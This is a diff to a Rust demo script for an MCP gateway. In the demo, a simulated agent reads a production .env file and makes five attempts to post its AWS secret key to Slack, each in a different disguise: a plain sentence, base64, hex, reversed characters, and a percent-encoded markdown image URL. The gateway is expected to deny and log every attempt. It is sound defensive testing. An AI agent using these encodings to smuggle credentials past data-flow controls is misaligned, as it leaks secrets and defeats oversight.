@@ -1,6 +1,9 @@
-//! The story: an agent reads a private file, posts words of its own, then tries to post the file.
+//! The story: an agent reads a private file, posts words of its own, then tries to post a key that
+//! stood in the file, in one disguise after the other.
 
 use anyhow::{Context as _, Result};
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD as BASE64;
 use serde_json::{Value, json};
 
 use super::agent::Agent;
@@ -8,10 +11,36 @@ use super::narrator::{Narrator, Step};
 use super::stage::Stage;
 use crate::output;
 
-/// The file that is read: an ordinary one, without any secret in it.
-const FILE: &str = "docs/on-call.md";
+/// The file that is read: it has credentials in it.
+const FILE: &str = "config/production.env";
+/// The line of it that the agent tries to get out.
+const NAME: &str = "AWS_SECRET_ACCESS_KEY=";
 /// What the agent writes by itself.
-const OWN_WORDS: &str = "The on-call notes are up to date, nothing to do this week.";
+const OWN_WORDS: &str = "The weekly report is ready, nothing unusual this time.";
+
+/// The disguises: what they are called, and how a key is dressed up.
+type Disguise = (&'static str, fn(&str) -> String);
+const DISGUISES: [Disguise; 5] = [
+    ("It tries to post the key in a sentence", |key| {
+        format!("Hi team, for the record: {key}, thanks!")
+    }),
+    ("It tries base64", |key| {
+        format!("build id {}", BASE64.encode(key))
+    }),
+    ("It tries hexadecimal digits", |key| {
+        let digits = key.bytes().map(|byte| format!("{byte:02x}"));
+        format!("checksum {}", digits.collect::<String>())
+    }),
+    (
+        "It tries it backwards, with a dot after each character",
+        |key| key.chars().rev().flat_map(|letter| [letter, '.']).collect(),
+    ),
+    ("It tries the address of an image, percent-encoded", |key| {
+        let coded = key.bytes().map(|byte| format!("%{byte:02X}"));
+        let coded: String = coded.collect();
+        format!("![chart](https://charts.example.com/a.png?id={coded})")
+    }),
+];
 
 /// Tells the story to its end, or to the first step that comes out wrong.
 pub(super) async fn tell(stage: &Stage, narrator: &mut Narrator) -> Result<()> {
@@ -21,7 +50,7 @@ pub(super) async fn tell(stage: &Stage, narrator: &mut Narrator) -> Result<()> {
     ))?;
     narrator.say("  github  a private code host, classified internal")?;
     narrator.say("  slack   a chat that others read, classified external")?;
-    narrator.say("What is read inside may not be sent outside (internal_to_external: deny).")?;
+    narrator.say("The policy is the default: sensitive data does not leave.")?;
     let mut agent = Agent::connect(address).await?;
     agent.wait_until_ready().await?;
     greet(&mut agent, narrator).await?;
@@ -29,14 +58,20 @@ pub(super) async fn tell(stage: &Stage, narrator: &mut Narrator) -> Result<()> {
     search(&mut agent, narrator).await?;
     let read = read(&mut agent, narrator).await?;
     post(&mut agent, narrator).await?;
-    leak(&mut agent, narrator, &read).await?;
+    let key = read.lines().find_map(|line| line.strip_prefix(NAME));
+    let key = key.context("the file came without the key")?;
     agent.leave().await?;
-    received(stage, narrator, &read)?;
-    recorded(stage, narrator)?;
     narrator.say(
-        "\nThis version recognizes a field that is sent on whole. Parts of a text, encodings and \
-         secrets\nare recognized by later versions.",
+        "\nEach attempt is made in a new session: what was read is remembered all the same.",
     )?;
+    for disguise in DISGUISES {
+        let mut agent = Agent::connect(address).await?;
+        agent.greet().await?;
+        leak(&mut agent, narrator, disguise, key).await?;
+        agent.leave().await?;
+    }
+    received(stage, narrator)?;
+    recorded(stage, narrator)?;
     narrator.say("Next: `mcpproxy init` imports the servers of your agents, `mcpproxy serve` runs.")
 }
 
@@ -143,19 +178,36 @@ async fn post(agent: &mut Agent, narrator: &mut Narrator) -> Result<()> {
     })
 }
 
-async fn leak(agent: &mut Agent, narrator: &mut Narrator, read: &str) -> Result<()> {
-    let arguments = message(read);
+async fn leak(
+    agent: &mut Agent,
+    narrator: &mut Narrator,
+    (title, disguise): Disguise,
+    key: &str,
+) -> Result<()> {
+    let arguments = message(&disguise(key));
     let answer = agent.call("call_tool_write", &arguments).await?;
+    let sentence = "flowing from internal source (github) to external destination (slack).";
     narrator.step(&Step {
-        title: "It tries to post the file that it read: denied before it leaves",
+        title,
         sent: format!("call_tool_write {arguments}"),
-        answer: spoken(&answer),
-        wanted: "the call should be denied",
-        as_wanted: !succeeded(&answer) && spoken(&answer).contains("internal source (github)"),
+        answer: [spoken(&answer), explained(&answer)].join("\n"),
+        wanted: "the call should be denied, with the reason",
+        as_wanted: !succeeded(&answer) && spoken(&answer).contains(sentence),
     })
 }
 
-fn received(stage: &Stage, narrator: &mut Narrator, read: &str) -> Result<()> {
+/// Returns what the gateway says about its decision, beside the reason.
+fn explained(answer: &Value) -> String {
+    let decision = answer.pointer("/result/_meta/io.mcpproxy~1decision");
+    let text = |name: &str| {
+        let value = decision.and_then(|decision| decision.get(name));
+        value.and_then(Value::as_str).unwrap_or("?").to_owned()
+    };
+    let names = ["decision", "rule", "flow_type", "risk_level", "evidence"];
+    names.map(|name| format!("{name}={}", text(name))).join(" ")
+}
+
+fn received(stage: &Stage, narrator: &mut Narrator) -> Result<()> {
     let calls = stage.received()?;
     let posted = |call: &Value| {
         let text = call
@@ -169,13 +221,13 @@ fn received(stage: &Stage, narrator: &mut Narrator, read: &str) -> Result<()> {
         sent: format!("{} call(s)", texts.len()),
         answer: texts.join("\n"),
         wanted: "only the agent's own words should have arrived",
-        as_wanted: texts == [OWN_WORDS] && !texts.iter().any(|text| text == read),
+        as_wanted: texts == [OWN_WORDS],
     })
 }
 
 fn recorded(stage: &Stage, narrator: &mut Narrator) -> Result<()> {
     let records = stage.records()?;
-    let last: Vec<_> = records.iter().rev().take(2).rev().collect();
+    let last: Vec<_> = records.iter().rev().take(DISGUISES.len()).rev().collect();
     let line = |record: &&Value| {
         let text = |name: &str| match record.get(name) {
             Some(Value::String(text)) => text.clone(),
@@ -194,21 +246,21 @@ fn recorded(stage: &Stage, narrator: &mut Narrator) -> Result<()> {
         format!("{} {}", names.map(text).join(" "), more.join(" "))
     };
     let lines: Vec<_> = last.iter().map(line).collect();
-    let decision = |record: &&Value| {
+    let denied = |record: &&&Value| {
         let is = |name: &str, value: &str| record.get(name) == Some(&json!(value));
-        (
-            is("server_name", "slack"),
-            is("decision", "allow"),
-            is("decision", "deny"),
-        )
+        is("server_name", "slack") && is("decision", "deny") && is("risk_level", "critical")
     };
-    let decisions: Vec<_> = last.iter().map(decision).collect();
+    let denied = last.iter().filter(denied).count();
     narrator.step(&Step {
-        title: "What is on record about these two calls",
-        sent: format!("activity log, last 2 of {} records", records.len()),
+        title: "What is on record about these calls",
+        sent: format!(
+            "activity log, last {} of {} records",
+            last.len(),
+            records.len()
+        ),
         answer: lines.join("\n"),
-        wanted: "the log should have one call allowed and one denied",
-        as_wanted: decisions == [(true, true, false), (true, false, true)],
+        wanted: "the log should have every attempt as denied",
+        as_wanted: denied == DISGUISES.len(),
     })
 }
 
